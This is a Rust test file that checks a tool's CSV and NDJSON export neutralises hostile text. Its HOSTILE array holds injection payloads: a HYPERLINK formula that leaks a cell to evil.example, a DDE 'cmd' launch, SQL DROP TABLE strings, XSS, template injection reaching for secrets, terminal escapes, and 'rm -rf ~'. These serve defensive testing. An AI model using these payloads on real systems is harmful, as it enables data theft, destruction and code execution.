//! Text that would steer a spreadsheet, a terminal, a database or a page comes out as text.

use std::collections::BTreeMap;
use std::fs;

use countersign::embedded;
use countersign::export::{self, Format};
use countersign::model::table::{Draft, Table};
use countersign::model::tree::{Origin, Tree};
use countersign::pipeline::{self, Input};
use jiff::civil::date;

use super::files::{compared, written};
use super::{table, tables_of, texts};

/// Texts that would do harm in one place or another.
const HOSTILE: [&str; 20] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u{ff1d}1+1",
    "'=1",
    "'it''s",
    "a\n=1+1,\"b\"",
    "\"; DROP TABLE jobs; --",
    "Robert'); DROP TABLE findings;--",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "::set-env name=PATH::/tmp ::stop-commands::x",
    "\u{1b}]0;gotcha\u{7}\u{1b}[31m",
    "\u{202e}gnp.exe\u{2066}",
    "{{ 7*7 }}{% include 'x' %}${{ secrets.TOKEN }}",
    "\0nul\u{85}\u{2028}",
    "`rm -rf ~`$(id)",
];

/// A table with each such text, and beside it numbers and days, which no guard may touch.
fn hostile() -> Table {
    Draft::of("jobs", "A row.", HOSTILE.iter().enumerate())
        .from("test")
        .whole("number", "Its number", |(at, _)| Some(*at))
        .key()
        .text("text", "The text", |(_, text)| Some(**text))
        .whole("below", "A number below nought", |(at, _)| Some(-i64::try_from(*at).unwrap() - 1))
        .real("part", "Another", |_| Some(-0.5))
        .unit("parts")
        .day("seen_on", "A day", |_| Some(date(2026, 1, 2)))
        .done()
}

#[test]
fn no_cell_of_a_spreadsheet_begins_a_formula() {
    let pages = export::files(&[hostile()], Format::Csv).unwrap();
    let text = String::from_utf8(pages[0].bytes.clone()).unwrap();
    let rows: Vec<&str> = text.split("\r\n").collect();
    assert_eq!(rows[0], "number,text,below,part,seen_on");
    assert_eq!(
        rows[1],
        "0,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")\",-1,-0.5,2026-01-02"
    );
    assert_eq!(rows[3], "2,'-2+3,-3,-0.5,2026-01-02");
    assert_eq!(rows[10], "9,''it''s,-10,-0.5,2026-01-02");
    assert!(!text.replace("\r\n", "").contains('\r'), "no other carriage return");
    for steering in ['\u{1b}', '\u{7}', '\u{202e}', '\u{2066}', '\0', '\u{85}', '\u{2028}', '\t'] {
        assert!(!text.contains(steering), "{steering:?}");
    }
}

#[test]
fn hostile_texts_are_the_same_text_in_every_format() {
    let mut files: BTreeMap<String, Vec<u8>> =
        embedded::example().into_iter().map(|(path, bytes)| (path, bytes.into_owned())).collect();
    for (at, text) in HOSTILE.iter().enumerate() {
        let quoted = serde_json::to_string(text).unwrap();
        let path = format!("records/communications/COM-X-{at}.yaml");
        let record = format!(
            "on: 2026-09-01\ndirection: in\ntopic: other\nby: P4\ncontact: {quoted}\nsummary: {quoted}\noutcome: {quoted}\n"
        );
        files.insert(path, record.into_bytes());
    }
    // two folders with one id: parts of both are there twice
    for part in ["request", "review", "deviation-1", "report-1"] {
        let bytes = files[&format!("records/jobs/2026/REQ-26-011/{part}.yaml")].clone();
        files.insert(format!("records/jobs/2025/REQ-26-011/{part}.yaml"), bytes);
    }
    let input = Input::new(Tree::of(Origin::Memory, files), Vec::new(), date(2026, 10, 15));
    let tables = tables_of(&pipeline::examine(input, &|_| {}));
    let told = texts(table(&tables, "communications"), "summary").iter().flatten();
    let there = told.filter(|text| text.contains("HYPERLINK") || text.contains("DROP TABLE")).count();
    assert_eq!(there, 3, "the texts are in the table");
    let dir = written(&tables);
    assert!(compared(dir.path()).contains(" cells are the same "));
    let lines = fs::read_to_string(dir.path().join("ndjson/communications.ndjson")).unwrap();
    assert!(!lines.contains(['\u{1b}', '\u{202e}', '\0', '\u{2028}']), "nothing steers a terminal");
}
